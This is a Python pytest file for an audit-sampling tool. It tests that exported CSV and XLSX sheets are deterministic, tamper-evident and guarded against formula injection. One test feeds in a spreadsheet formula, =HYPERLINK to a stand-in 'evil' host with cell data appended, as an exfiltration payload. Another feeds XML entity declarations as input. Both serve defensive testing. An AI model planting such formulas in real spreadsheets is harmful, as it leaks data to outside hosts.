"""Sheets: the same bytes each time, no formulas, and every alteration is refused."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable, Iterable
from datetime import UTC, datetime
from hashlib import sha256
from json import dumps

import openpyxl
import pytest

from audit.sampling.errors import BadPlan, BadPopulation, SheetAltered, SheetError, SheetUnreadable
from audit.sampling.files import load, render
from audit.sampling.items import Item
from audit.sampling.plan import Method, Sample, Scope, SeedFrom, draw, plan_of
from audit.sampling.sheet import Finding, digest_of, grid_of, guarded, unguarded

Rows = list[list[str]]


def population(count: int = 1000) -> list[Item]:
    return [
        Item("transactions", "rvm-0001", seq, f"tx-{seq}", "pet", 20_000 + seq) for seq in range(1, count + 1)
    ]


def sample(
    method: Method = Method.MONETARY, items: Iterable[Item] | None = None, site: str = "s-1"
) -> Sample:
    plan = plan_of(
        method,
        confidence="95",
        tolerable="5",
        expected="0",
        seed="5a" * 32,
        seed_from=SeedFrom.LEDGER,
        scope=Scope("2026-03-01T00:00:00+00:00", "2026-04-01T00:00:00+00:00", site),
    )
    return draw(plan, population() if items is None else items)


def rows_of(data: bytes) -> Rows:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def csv_of(rows: Rows, delimiter: str = ",") -> bytes:
    file = io.StringIO(newline="")
    csv.writer(file, delimiter=delimiter).writerows(rows)
    return file.getvalue().encode()


@pytest.mark.parametrize("method", Method)
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_sheet_comes_back_as_it_was_drawn_and_its_bytes_never_differ(method: Method, suffix: str) -> None:
    drawn = sample(method)
    data = render(drawn, suffix)
    assert data == render(sample(method), suffix)
    assert load(data).sample == drawn
    assert load(data).digest == digest_of(drawn)


def test_the_digest_is_the_documented_one() -> None:
    rows = rows_of(render(sample(), ".csv"))
    empty = rows.index([])
    lines = [*rows[: empty - 1], *(row[:8] for row in rows[empty + 2 :])]
    assert rows[empty - 1] == [
        "digest",
        "sha256:" + sha256(dumps(lines, separators=(",", ":")).encode()).hexdigest(),
    ]


def test_an_xlsx_is_protected_but_for_the_auditors_cells() -> None:
    book = openpyxl.load_workbook(io.BytesIO(render(sample(), ".xlsx")))
    sheet = book["sample"]
    assert sheet.protection.sheet
    head = next(row for row in range(1, 100) if sheet.cell(row, 1).value == "no")
    cells = [sheet.cell(head + 1, column) for column in range(1, 12)]
    assert [cell.protection.locked for cell in cells] == [True] * 8 + [False] * 3
    assert isinstance(cells[6].value, float)
    assert {rule.type for rule in sheet.data_validations.dataValidation} == {"decimal", "list"}
    assert book.properties.created == datetime(2000, 1, 1, tzinfo=UTC).replace(tzinfo=None)


def test_an_xlsx_filled_in_and_saved_by_another_program_is_read() -> None:
    drawn = sample()
    book = openpyxl.load_workbook(io.BytesIO(render(drawn, ".xlsx")))
    sheet = book["sample"]
    head = next(row for row in range(1, 100) if sheet.cell(row, 1).value == "no")
    sheet.cell(head + 1, 9, 12.3)
    sheet.cell(head + 1, 10, "Misstated")
    sheet.cell(head + 1, 11, "label torn _x0041_, see photo")
    sheet.cell(head + 2, 10, "not found")
    file = io.BytesIO()
    book.save(file)
    filled = load(file.getvalue())
    assert filled.sample == drawn
    assert (filled.answers[0].audited_mg, filled.answers[0].finding) == (12_300, Finding.MISSTATED)
    assert filled.answers[1].finding is Finding.NOT_FOUND


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_csv_saved_by_a_spreadsheet_program_is_read(delimiter: str) -> None:
    """Zeros cut off, all lines equally long, a byte order mark, rows sorted otherwise."""
    drawn = sample(Method.ATTRIBUTE)
    rows = [(row + [""] * 11)[:11] for row in rows_of(render(drawn, ".csv"))]
    empty = next(index for index, row in enumerate(rows) if not any(row))
    for row in rows[empty + 2 :]:
        row[6] = row[6].rstrip("0").rstrip(".")
        row[9] = "correct"
    rows[empty + 2 :] = reversed(rows[empty + 2 :])
    filled = load(b"\xef\xbb\xbf" + csv_of(rows, delimiter))
    assert filled.sample == drawn
    assert {answer.finding for answer in filled.answers} == {Finding.CORRECT}


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "\nx", "\uff1d1", "'x", "007", "1E5", "1-2"]
)
def test_a_text_that_a_spreadsheet_would_change_is_guarded(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


def test_no_cell_of_a_sheet_begins_a_formula() -> None:
    evil = '=HYPERLINK("http://evil/"&A1)'
    items = [Item("transactions", evil, seq, evil, evil, 20_000) for seq in range(1, 100)]
    drawn = sample(Method.ATTRIBUTE, items, site=evil)
    for row in rows_of(render(drawn, ".csv")):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
    with zipfile.ZipFile(io.BytesIO(render(drawn, ".xlsx"))) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
    assert load(render(drawn, ".csv")).sample == load(render(drawn, ".xlsx")).sample == drawn


def set_line(name: str, value: str) -> Callable[[Rows], None]:
    def change(rows: Rows) -> None:
        next(row for row in rows if row and row[0] == name)[1] = value

    return change


def set_cell(column: int, value: str) -> Callable[[Rows], None]:
    def change(rows: Rows) -> None:
        rows[rows.index([]) + 2][column] = value

    return change


def drop_row(rows: Rows) -> None:
    del rows[-1]


def repeat_row(rows: Rows) -> None:
    rows.append(rows[-1])


@pytest.mark.parametrize(
    "change",
    [
        set_line("seed", "sha256:" + "5b" * 32),
        set_line("confidence_percent", "90"),
        set_line("tolerable_percent", "10"),
        set_line("method", "attribute"),
        set_line("method", "guess"),
        set_line("expected", "x"),
        set_line("site", "s-2"),
        set_line("to", ""),
        set_line("seed_from", "given"),
        set_line("population_items", "999"),
        set_line("positive_items", "-1"),
        set_line("population_book_g", "1.000"),
        set_line("size", "59"),
        set_line("interval_g", "999.000"),
        set_line("digest", "sha256:" + "00" * 32),
        set_cell(0, "77"),
        set_cell(2, "rvm-0002"),
        set_cell(3, "2"),
        set_cell(4, "tx-x"),
        set_cell(5, "glass"),
        set_cell(6, "1.000"),
        set_cell(7, "always"),
        drop_row,
        repeat_row,
    ],
)
def test_a_sheet_that_was_altered_is_refused(change: Callable[[Rows], None]) -> None:
    rows = rows_of(render(sample(), ".csv"))
    load(csv_of(rows))
    change(rows)
    with pytest.raises(SheetAltered) as caught:
        load(csv_of(rows))
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (set_cell(8, "1,5"), r"item 1, audited_g: expected grams such as 12.345, with a point, got '1,5'"),
        (set_cell(8, "1.2345"), "at most three decimals"),
        (set_cell(8, "-1"), "expected 0 or more"),
        (set_cell(9, "fine"), "item 1, finding: expected correct, misstated, not_found, got 'fine'"),
        (set_cell(3, "x"), "seq: expected a whole number"),
        (set_line("format", "tally-sample/2"), "not a sheet"),
        (lambda rows: rows.pop(3), "lines above the items"),
        (lambda rows: rows[rows.index([]) + 1].pop(), "columns"),
        (lambda rows: rows[-1].append("x"), "to the right of the note"),
    ],
)
def test_a_cell_that_holds_what_it_cannot_is_named(change: Callable[[Rows], object], message: str) -> None:
    rows = rows_of(render(sample(), ".csv"))
    change(rows)
    with pytest.raises(SheetUnreadable, match=message):
        load(csv_of(rows))


@pytest.mark.parametrize(
    "data", [b"", b"\xff\xfe", b"PK\x03\x04", b"%PDF", b"format,tally-sample/1", b'"' + b"x" * 200_000]
)
def test_what_is_no_sheet_is_refused(data: bytes) -> None:
    with pytest.raises(SheetUnreadable):
        load(data)


def repacked(replace: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(render(sample(), ".xlsx"))) as source,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            target.writestr(name, replace.get(name, source.read(name)))
    return file.getvalue()


@pytest.mark.parametrize(
    ("name", "part", "message"),
    [
        ("xl/workbook.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', "document type"),
        ("xl/workbook.xml", '<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16"), "UTF-8"),
        ("xl/workbook.xml", b"<x>", "no XML"),
        ("xl/workbook.xml", b"<x/>", "no worksheet"),
        ("xl/_rels/workbook.xml.rels", b"<x/>", "where its first worksheet is"),
        ("xl/sharedStrings.xml", b"<x/>", "not in the workbook"),
        ("xl/worksheets/sheet1.xml", b"<x/>", "not a sheet"),
    ],
)
def test_a_workbook_that_is_none_is_refused(name: str, part: bytes, message: str) -> None:
    assert load(repacked({})).sample == sample()
    with pytest.raises(SheetUnreadable, match=message):
        load(repacked({name: part}))


def test_a_text_that_no_cell_holds_is_refused_before_anything_is_written() -> None:
    for text in ("x" * 40_000, "\ud800", "a\0b", "\uffff"):
        items = [Item("transactions", "rvm-0001", 1, text, "pet", 1000)]
        with pytest.raises(SheetError, match="can't hold"):
            grid_of(sample(items=items))


def test_a_population_may_be_a_generator_and_must_not_be_empty() -> None:
    assert sample(items=iter(population())) == sample()
    with pytest.raises(BadPopulation, match="no items"):
        sample(items=[])
    with pytest.raises(BadPopulation, match="above zero"):
        sample(items=[Item("t", "c", 1, "x", "pet", 0)])


def test_a_population_that_changes_while_it_is_read_is_refused() -> None:
    class Shrinking:
        def __init__(self) -> None:
            self.left = population(400)

        def __iter__(self) -> object:
            rows, self.left = self.left, self.left[:10]
            return iter(rows)

    with pytest.raises(BadPopulation, match="changed"):
        sample(Method.ATTRIBUTE, Shrinking())  # type: ignore[arg-type]


def test_a_sample_too_large_for_a_sheet_is_refused() -> None:
    plan = plan_of(
        Method.ATTRIBUTE,
        confidence="99.99",
        tolerable="0.01",
        expected="20",
        seed="00" * 32,
        seed_from=SeedFrom.GIVEN,
        scope=Scope(),
    )
    many = (Item("t", "c", seq, "x", "pet", 1) for seq in range(300_000))
    with pytest.raises(BadPlan, match="tolerate more"):
        draw(plan, many)
